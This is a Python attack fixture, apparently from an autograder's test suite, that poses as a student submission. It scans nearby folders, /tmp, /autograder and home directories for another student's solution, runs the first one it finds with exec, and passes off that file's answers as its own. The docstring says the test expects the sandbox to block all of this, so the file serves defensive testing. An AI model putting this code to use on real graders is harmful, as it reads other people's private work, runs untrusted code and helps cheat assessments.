"""Attack (reading the answers): copy another student's submission.

Submissions are often uploaded into one folder. The student looks next to its own file,
in the folder it was uploaded from (the report shows that path), in /tmp, /autograder and
home folders, and runs the first file that defines forward() and backward() and is not
itself. The test puts a correct "secret_other_student.py" next to this file.

Expected: nothing readable outside the worker's own copy of the submission; every part 0.
"""

import glob
import os
import time
import types

# Filled in by tests/test_attacks.py (defaults for grading this file by hand).
HOOKS = {"repo": "/work/main", "canary": "/tmp/grader-attack-canary", "submission_dir": "/tmp",
         "tcp_port": 47011, "udp_port": 47012, "marker": "atkmarker"}

_stolen = None
_notes = []


def _python_files():
    here = os.path.dirname(os.path.abspath(__file__))
    for folder in (here, os.path.dirname(here), os.getcwd(), HOOKS["submission_dir"], "/autograder/submission",
                   "/autograder/submissions", os.path.expanduser("~")):
        yield from glob.glob(os.path.join(folder, "*.py"))
        yield from glob.glob(os.path.join(folder, "*", "*.py"))
    started = time.monotonic()
    for top in ("/tmp", "/var/tmp", "/home", "/work"):
        for root, _, files in os.walk(top, onerror=lambda e: None):
            for name in files:
                if name.endswith(".py"):
                    yield os.path.join(root, name)
            if time.monotonic() - started > 3:
                return


def hunt():
    global _stolen
    me = os.path.realpath(__file__)
    for path in dict.fromkeys(_python_files()):
        if os.path.realpath(path) == me:
            continue
        try:
            with open(path, encoding="utf-8") as f:
                text = f.read()
        except (OSError, UnicodeDecodeError):
            continue
        if "def forward" not in text or "def backward" not in text or "HOOKS" in text:
            continue
        _notes.append(f"SUCCESS: read {path}: {text[:200]!r}")
        module = types.ModuleType("copied")
        try:
            exec(compile(text, path, "exec"), module.__dict__)
        except Exception:
            continue
        _stolen = module
        return


hunt()
print("\n".join(_notes) or "read_other_students: found nothing")


def _answer(name, *args):
    return getattr(_stolen, name)(*args) if _stolen is not None else None


def forward(alpha, beta, x, y):
    return _answer("forward", alpha, beta, x, y)


def backward(alpha, beta, x, y):
    return _answer("backward", alpha, beta, x, y)


def chain_rule(dy_dx, dz_dy):
    return _answer("chain_rule", dy_dx, dz_dy)


def d_Ax_dx(A, x):
    return _answer("d_Ax_dx", A, x)


def linear_regression(X, y):
    return _answer("linear_regression", X, y)
